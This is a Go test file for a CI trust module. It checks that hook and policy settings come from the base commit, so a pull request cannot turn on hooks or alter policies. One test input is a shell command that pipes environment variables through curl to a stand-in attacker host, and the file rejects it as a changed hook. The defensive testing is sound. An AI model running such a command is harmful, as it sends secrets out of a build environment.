package trust

import (
	"context"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"testing"
)

func git(t *testing.T, dir string, args ...string) string {
	t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@x", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@x")
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("git %v: %v\n%s", args, err, out)
	}
	return string(out)
}

func write(t *testing.T, path, content string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

// repo makes a repository whose main commit allows one hook and has two policies.
func repo(t *testing.T) (string, string) {
	t.Helper()
	dir := t.TempDir()
	if r, err := filepath.EvalSymlinks(dir); err == nil {
		dir = r
	}
	git(t, dir, "init", "-q", "-b", "main")
	write(t, filepath.Join(dir, File), `plan_hook "build" {
  execute = ["make", "-C", "{repo}", "zip"]
}
`)
	write(t, filepath.Join(dir, "policy", "unit", "deletion.rego"), "package unit\n")
	write(t, filepath.Join(dir, "policy", "plan", "destroy.rego"), "package plan\n")
	git(t, dir, "add", "-A")
	git(t, dir, "commit", "-qm", "base")
	return dir, "main"
}

// TestSettingsFromTheBase replays the attack: the pull request's checkout turns every
// hook on and rewrites the allowed one; read from the base commit, neither counts.
func TestSettingsFromTheBase(t *testing.T) {
	dir, base := repo(t)
	git(t, dir, "checkout", "-qb", "pr")
	write(t, filepath.Join(dir, File), "plan_hooks = true\n")
	git(t, dir, "commit", "-qam", "pr: every hook")
	ctx := context.Background()

	c, err := Load(ctx, filepath.Join(dir, "policy"), base)
	if err != nil {
		t.Fatal(err)
	}
	if c.PlanHooks {
		t.Fatal("the PR's plan_hooks = true was read")
	}
	if err := c.AllowHook("build", []string{"make", "-C", dir, "zip"}); err != nil {
		t.Errorf("the base's allowed hook: %v", err)
	}
	var he *HookError
	if err := c.AllowHook("build", []string{"sh", "-c", "env | curl -d @- https://evil.example"}); !errors.As(err, &he) {
		t.Errorf("a changed command under an allowed name: %v", err)
	}
	if err := c.AllowHook("exfiltrate", []string{"env"}); err == nil {
		t.Error("an unlisted hook was allowed")
	}
	// The PR's own checkout, read from disk (what a trusted run does), says otherwise.
	if c, err := Load(ctx, dir, ""); err != nil || !c.PlanHooks {
		t.Errorf("from disk: %+v, %v", c, err)
	}
	// No file at the base: defaults.
	git(t, dir, "rm", "-q", File)
	git(t, dir, "commit", "-qm", "rm")
	if c, err := Load(ctx, dir, "HEAD"); err != nil || c.PlanHooks || c.AllowHook("build", []string{"make", "-C", dir, "zip"}) == nil {
		t.Errorf("no file: %+v, %v", c, err)
	}
}

func TestParseErrors(t *testing.T) {
	for _, src := range []string{
		"plan_hooks = \"yes\"\n",
		"allow_everything = true\n",
		"plan_hook \"x\" {\n  execute = []\n}\n",
		"plan_hook \"x\" {\n  execute = [\"a\"]\n  working_dir = \"/\"\n}\n",
		"workflow {}\n",
		"plan_hooks = \n",
	} {
		if _, err := Parse([]byte(src), ".olechka.hcl", "/r"); err == nil {
			t.Errorf("accepted %q", src)
		}
	}
}

// TestExtractPolicy: the base's policy folder is what judges; the PR's deletion of a
// rule and its new rule are listed as changes, not loaded.
func TestExtractPolicy(t *testing.T) {
	dir, base := repo(t)
	git(t, dir, "checkout", "-qb", "pr")
	if err := os.RemoveAll(filepath.Join(dir, "policy", "unit")); err != nil {
		t.Fatal(err)
	}
	write(t, filepath.Join(dir, "policy", "plan", "destroy.rego"), "package plan\n# weakened\n")
	write(t, filepath.Join(dir, "policy", "allow.rego"), "package unit\n")
	tr, done, err := BaseTree(context.Background(), dir, base)
	if err != nil {
		t.Fatal(err)
	}
	defer done()
	dst := t.TempDir()
	found, changes, err := Extract(tr, "policy", dst)
	if err != nil || !found {
		t.Fatal(found, err)
	}
	if b, err := os.ReadFile(filepath.Join(dst, "unit", "deletion.rego")); err != nil || string(b) != "package unit\n" {
		t.Errorf("the base's rule was not extracted: %q %v", b, err)
	}
	if _, err := os.Stat(filepath.Join(dst, "allow.rego")); err == nil {
		t.Error("the PR's new file was extracted")
	}
	want := []Change{{"policy/allow.rego", "added"}, {"policy/plan/destroy.rego", "modified"}, {"policy/unit/deletion.rego", "deleted"}}
	if !slices.Equal(changes, want) {
		t.Errorf("changes = %v, want %v", changes, want)
	}
}
